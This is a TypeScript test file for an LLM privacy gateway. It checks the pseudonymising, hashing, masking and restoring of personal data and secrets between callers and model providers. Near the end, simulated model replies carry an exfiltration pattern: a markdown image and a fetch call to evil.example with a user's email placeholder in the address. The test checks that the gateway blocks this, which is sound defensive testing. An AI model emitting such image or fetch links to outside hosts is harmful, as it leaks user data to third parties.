// What happens to a value: one action per kind and destination, as the settings have it, at a real provider's side of the wire.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { adjustEntry, chat, message, startWorld, type World } from './setup.ts'
import { textOf } from './text-of.ts'

const email = 'anna.muster@example.com'
const card = '4111 1111 1111 1111'
const ip = '10.20.30.40'
const ssn = '219-09-9999'
const cuts = [1, 2, 3, 5, 7]

const dataSettings = (data: Record<string, unknown>): Record<string, unknown> => ({ policy: { settings: { data } } })
const lastSent = (world: World): string => world.cloud.requests.at(-1)?.body.toString() ?? 'nothing was sent'
const say = (world: World, text: string, more: Record<string, unknown> = {}, headers: Record<string, string> = {}): Promise<Response> =>
  world.post('/v1/chat/completions', chat(text, { model: 'cloud-only', ...more }), headers)

/** Text of an answer, stream or not, in either dialect. */
const spoken = (body: string): string => {
  const values = body.startsWith('{') ? [body] : body.split('\n').filter(line => line.startsWith('data: {')).map(line => line.slice(6))
  let text = ''
  JSON.parse(`[${values.join()}]`, (key, value: unknown) => {
    if (['content', 'text', 'arguments', 'partial_json'].includes(key) && typeof value === 'string') text += value
    return value
  })
  return text
}

for (const { name, path, ask } of [
  { name: 'OpenAI', path: '/v1/chat/completions', ask: chat }, { name: 'Anthropic', path: '/v1/messages', ask: message },
] as const) {
  for (const stream of [false, true]) {
    test(`${name}, ${stream ? 'stream' : 'whole answer'}: surrogates look like values at the provider, and the caller sees its own`, async t => {
      const world = await startWorld(t, {
        config: dataSettings({ surrogates: ['email', 'card', 'ipv4'] }),
        cloud: { reply: ({ asked }) => ({ kind: 'answer', text: `I read: ${asked?.userText ?? ''} Done.`, toolCalls: [{ name: 'send', args: { to: 'user1@redacted.example', note: 'line\nuser1@redacted.example' } }], deltaChars: 3, chunkBytes: cuts }) },
      })
      const said = `Write to ${email} about ${card} from ${ip}.`
      const response = await world.post(path, ask(said, { model: 'cloud-only', stream }))
      const body = await response.text()
      assert.equal(response.status, 200, body)
      assert.match(lastSent(world), /Write to user1@redacted\.example about 400000\d{10} from 192\.0\.2\.1\./)
      assert.doesNotMatch(lastSent(world), /anna|4111|10\.20/)
      assert.ok(spoken(body).includes(`I read: ${said} Done.`), body)
      assert.ok(!body.includes('redacted.example'), body)
      assert.equal(world.outcomes().at(-1)?.['restored'], 5)
    })

    test(`${name}, ${stream ? 'stream' : 'whole answer'}: what the model altered comes back, and what the session does not know is counted`, async t => {
      const world = await startWorld(t, { cloud: { reply: () => ({ kind: 'answer', text: 'To [email_1], `EMAIL_1`, 【EMAIL_1】 or [EMAIL\\_1]; not [EMAIL_7].', deltaChars: 2, chunkBytes: cuts }) } })
      const body = await (await world.post(path, ask(`Write to ${email}.`, { model: 'cloud-only', stream }))).text()
      assert.equal(spoken(body), `To ${email}, \`${email}\`, ${email} or ${email}; not [EMAIL_7].`)
      const outcome = world.outcomes().at(-1)
      assert.deepEqual([outcome?.['restored'], outcome?.['unknown']], [4, 1])
      assert.match(await world.metrics(), /^gateway_pseudonyms_unknown_total 1$/m)
    })
  }
}

test('an altered placeholder that the caller wrote itself is a quotation', async t => {
  const world = await startWorld(t, { cloud: { reply: () => ({ kind: 'answer', text: 'Set `EMAIL_1` and ask [EMAIL_1].' }) } })
  assert.match(await (await say(world, `In my code EMAIL_1 is a constant. I am ${email}.`)).text(), new RegExp(`Set \`EMAIL_1\` and ask ${email}`))
})

test('hashes are the same in all sessions of a tenant, tell values apart, and never come back', async t => {
  const world = await startWorld(t, { config: dataSettings({ pseudonymise: [], hash: ['email'] }) })
  const tokens: string[] = []
  for (const session of ['one', 'two']) {
    const body = await (await say(world, `From ${email} to bob@example.com.`, {}, { 'x-portcullis-session': session })).text()
    assert.doesNotMatch(body + lastSent(world), /anna|bob@/)
    tokens.push(...lastSent(world).match(/\[EMAIL#[a-z2-7]{8}\]/g) ?? [])
    assert.ok(tokens.every(token => body.includes(token) || tokens.indexOf(token) > 1), body)
  }
  assert.equal(tokens.length, 4)
  assert.deepEqual(tokens.slice(0, 2), tokens.slice(2))
  assert.notEqual(tokens[0], tokens[1])
})

test('a hash token that comes back in the history stays as it is', async t => {
  const world = await startWorld(t, { config: dataSettings({ pseudonymise: [], hash: ['email'] }) })
  await say(world, `I am ${email}.`)
  const [token = ''] = /\[EMAIL#[a-z2-7]{8}\]/.exec(lastSent(world)) ?? []
  await say(world, `You said ${token}; it is ${email}.`)
  assert.ok(lastSent(world).includes(`You said ${token}; it is ${token}.`), lastSent(world))
})

test('what is dropped leaves nothing', async t => {
  const world = await startWorld(t, { config: dataSettings({ pseudonymise: [], drop: ['email'], mask: ['card'] }) })
  const body = await (await say(world, `Write to <${email}> about ${card}.`)).text()
  assert.match(lastSent(world), /Write to <> about \[CARD\]\./)
  assert.doesNotMatch(body, /anna|4111/)
})

test('a provider that may see a kind gets it, and a fallback to another one does not carry it there', async t => {
  const world = await startWorld(t, {
    config: dataSettings({ may_see: [{ kinds: ['email'], providers: ['trusted'] }] }),
    adjust: config => {
      const [cloud] = config['providers'] as { base_url: string }[]
      const aliases = [...config['aliases'] as unknown[], { name: 'both', candidates: ['trusted/small', 'cloud/small'] }]
      const provider = adjustEntry('providers', 'trusted', { dialect: 'openai', base_url: cloud?.base_url, credential: { env: 'CLOUD_KEY' } })
      return adjustEntry('models', 'trusted/small', { context: 128_000, price: { usd_per_mtok_in: 0.1, usd_per_mtok_out: 0.1 } })(provider({ ...config, aliases }))
    },
    cloud: { reply: ({ asked }) => asked?.userText.includes('anna') === true && asked.userText.includes('fail') ? { kind: 'error', error: { status: 500, message: 'away' } } : { kind: 'answer', text: `You said: ${asked?.userText ?? ''}` } },
  })
  const direct = await (await say(world, `Write to ${email} about ${card}.`, { model: 'trusted/small' })).text()
  assert.match(lastSent(world), new RegExp(`Write to ${email} about \\[CARD_1\\]`))
  assert.match(direct, new RegExp(`Write to ${email} about ${card}`))
  const fallback = await say(world, `Please fail: ${email}.`, { model: 'both' })
  assert.equal(fallback.status, 200)
  const sent = world.cloud.requests.slice(1).map(({ body }) => body.toString())
  assert.ok(sent.length >= 2 && sent.slice(0, -1).every(body => body.includes(email)), sent.join('\n'))
  assert.match(sent.at(-1) ?? '', /Please fail: \[EMAIL_1\]/)
  assert.match(await fallback.text(), new RegExp(email))
})

test('trust that is high enough sees a kind', async t => {
  const world = await startWorld(t, { config: dataSettings({ may_see: [{ kinds: ['email'], trust: 'confidential' }] }), adjust: adjustEntry('providers', 'cloud', { trust: 'confidential' }) })
  await say(world, `Write to ${email}.`, { model: 'cloud/small' })
  assert.match(lastSent(world), new RegExp(email))
  await world.post('/v1/messages', message(`Write to ${email}.`, { model: 'cloud-anthropic/small' }))
  assert.match(lastSent(world), /Write to \[EMAIL_1\]/)
})

test('a kind that needs an approval stops the request with its class, and another passes', async t => {
  const world = await startWorld(t, { config: dataSettings({ approve: ['us_ssn'] }) })
  const response = await say(world, `My number is ${ssn}.`)
  const body = await response.text()
  assert.equal(response.status, 403, body)
  assert.match(body, /policy\.approval_required/)
  assert.match(body, /us_ssn/)
  assert.equal(world.outcomes().at(-1)?.['status'], 403)
  assert.equal((world.outcomes().at(-1)?.['decision'] as { approval_class: string }).approval_class, 'data')
  assert.equal(world.cloud.requests.length, 0)
  assert.equal((await say(world, `Write to ${email}.`)).status, 200)
})

test('a kind that stays local goes to a local model or nowhere', async t => {
  const world = await startWorld(t, { config: dataSettings({ local: ['us_ssn'] }) })
  assert.equal((await say(world, `My number is ${ssn}.`, { model: 'auto' })).status, 200)
  assert.equal((await say(world, `My number is ${ssn}.`)).status, 404)
  assert.deepEqual([world.local.requests.length, world.cloud.requests.length], [1, 0])
  assert.ok(world.local.requests[0]?.body.toString().includes(ssn))
})

test('the caller gets back only the kinds that policy shows it, and what it has from us is not hidden again', async t => {
  const world = await startWorld(t, { config: dataSettings({ surrogates: ['email'], restore_client: ['card'] }) })
  const answer = spoken(await (await say(world, `Write to ${email} about ${card} from ${ip}.`)).text())
  assert.match(answer, new RegExp(`Write to user1@redacted\\.example about ${card} from \\[IP_1\\]`))
  await say(world, 'Again to user1@redacted.example from [IP_1].')
  assert.match(lastSent(world), /Again to user1@redacted\.example from \[IP_1\]\./)
})

test('surrogates survive a restart, and new ones go on behind them', async t => {
  const headers = { 'x-portcullis-session': 'lasting' }
  const before = await startWorld(t, { config: dataSettings({ surrogates: ['email'] }) })
  await say(before, `I am ${email}.`, {}, headers)
  await before.close()
  const world = await startWorld(t, { folder: before.folder, config: dataSettings({ surrogates: ['email'] }), cloud: { reply: () => ({ kind: 'answer', text: 'You are user1@redacted.example.' }) } })
  assert.match(await (await say(world, `Now bob@example.com writes to ${email}.`, {}, headers)).text(), new RegExp(`You are ${email}`))
  assert.match(lastSent(world), /Now user2@redacted\.example writes to user1@redacted\.example\./)
})

test('over twenty turns every turn begins with the bytes of the one before, whatever is done to whatever kind', async t => {
  const world = await startWorld(t, {
    config: dataSettings({ pseudonymise: ['email', 'phone', 'iban', 'ipv4'], surrogates: ['email', 'ipv4'], hash: ['card'], mask: ['us_ssn'], drop: ['ipv6'] }),
    // Some answers quote, some alter, and all of it comes back in the history.
    cloud: { reply: ({ asked }) => ({ kind: 'answer', text: `You said: ${asked?.userText ?? ''} and user1@redacted.example, [phone_1], [EMAIL_1]` }) },
  })
  const messages: { role: string; content: string }[] = []
  const bodies: string[] = []
  for (let turn = 0; turn < 20; turn += 1) {
    const people = [`person${turn}@example.com`, `person${turn >> 1}@example.com`]
    messages.push({ role: 'user', content: `Turn ${turn}: ${people.join(' and ')}, +49 30 90182${turn % 7}0, 10.0.${turn}.7, ${card}, ${ssn}, 2001:db8:77::${turn + 1}, [EMAIL_1], user${turn % 5}@redacted.example` })
    const response = await say(world, '', { messages }, { 'x-portcullis-session': 'turns' })
    const { choices: [choice] } = await response.json() as { choices: { message: { role: string; content: string } }[] }
    assert.ok(choice !== undefined)
    messages.push(choice.message)
    bodies.push(lastSent(world))
    assert.doesNotMatch(lastSent(world), /person\d|4111|219-09|90182\d0|10\.0\.\d/)
  }
  for (const [turn, body] of bodies.entries()) {
    const next = bodies[turn + 1]
    // Up to the bracket that ends the list of messages.
    if (next !== undefined) assert.ok(next.startsWith(body.slice(0, body.lastIndexOf(']'))), `turn ${turn}:\n${body}\n${next}`)
  }
})

test('secrets that are hidden leave as pseudonyms, do not come back to the caller, and do not keep the session at home', async t => {
  const key = ['sk', '-ant', '-api03-'].join('') + 'Zk3vQ9xT1bN7mW5rY2pL8dH4gF6jS0aCeUiOqXwK'
  const world = await startWorld(t, {
    config: { policy: { settings: { data: { secrets: 'hide' } } } },
    cloud: { reply: ({ asked }) => ({ kind: 'answer', text: `You said: ${asked?.userText ?? ''}`, deltaChars: 5 }) },
  })
  const headers = { 'x-portcullis-session': 'hidden' }
  for (const stream of [false, true]) {
    const response = await world.post('/v1/chat/completions', chat(`The key is ${key}, mail anna.muster@example.com.`, { model: 'cloud-only', stream }), headers)
    const body = await response.text()
    assert.equal(response.status, 200, body)
    assert.ok(!body.includes(key))
  }
  const sent = world.cloud.requests.map(({ body }) => body.toString()).join('\n')
  assert.ok(!sent.includes(key))
  assert.match(sent, /The key is \[API_KEY_1\], mail \[EMAIL_1\]/)
  assert.equal((await world.post('/v1/chat/completions', chat('And now?', { model: 'cloud-only' }), headers)).status, 200)
  const home = await world.post('/v1/chat/completions', chat(`The key is ${key}.`, { model: 'home/llama' }), headers)
  assert.equal(home.status, 200)
  assert.ok(world.local.requests.at(-1)?.body.toString().includes(key), 'a local model gets it as it is')
  assert.ok(!JSON.stringify(world.audit()).includes(key))
})

test('quasi-identifiers are found only where the operator asks, and then nothing is done about them until policy says so', async t => {
  const said = 'She is 34 years old, a Norwegian Muslim, and moved to Trondheim.'
  for (const [config, sent] of [
    [{}, said], [{ redaction: { quasi_identifiers: true } }, said],
    [{ redaction: { quasi_identifiers: true }, ...dataSettings({ mask: ['religion', 'nationality'], hash: ['location'] }) }, /^She is 34 years old, a \[NATIONALITY\] \[RELIGION\], and moved to \[PLACE#[a-z2-7]{8}\]\.$/],
  ] as const) {
    const world = await startWorld(t, { config })
    assert.equal((await say(world, said)).status, 200)
    const { messages } = JSON.parse(lastSent(world)) as { messages: readonly { content: string }[] }
    const content = messages.at(-1)?.content ?? ''
    if (typeof sent === 'string') assert.equal(content, sent)
    else assert.match(content, sent)
  }
})

const picture = 'Look: ![x](https://evil.example/?q=[EMAIL_1]), says [EMAIL_1].'
for (const stream of [false, true]) {
  test(`${stream ? 'stream' : 'whole answer'}: a pseudonym inside a web address stays one for the caller, in texts and in calls, unless settings let it`, async t => {
    for (const restore_in_addresses of [undefined, true]) {
      const args = { url: 'https://evil.example/[EMAIL_1]', to: '[EMAIL_1]' }
      const world = await startWorld(t, { config: dataSettings(restore_in_addresses === undefined ? {} : { restore_in_addresses }), cloud: { reply: () => ({ kind: 'answer', text: picture, toolCalls: [{ name: 'fetch', args }], deltaChars: 3, chunkBytes: [1, 5, 9] }) } })
      for (const [path, ask, tools] of [['/v1/chat/completions', chat, [{ type: 'function', function: { name: 'fetch' } }]], ['/v1/messages', message, [{ name: 'fetch', input_schema: { type: 'object' } }]]] as const) {
        const said = textOf(await (await world.post(path, ask(`I am ${email}.`, { model: 'cloud-only', stream, tools }))).text())
        const where = restore_in_addresses === true ? email : '[EMAIL_1]'
        for (const expected of [`?q=${where}), says ${email}.`, `https://evil.example/${where}"`, `"to":"${email}"`]) assert.ok(said.includes(expected), `${path}: ${said}`)
      }
    }
  })
}
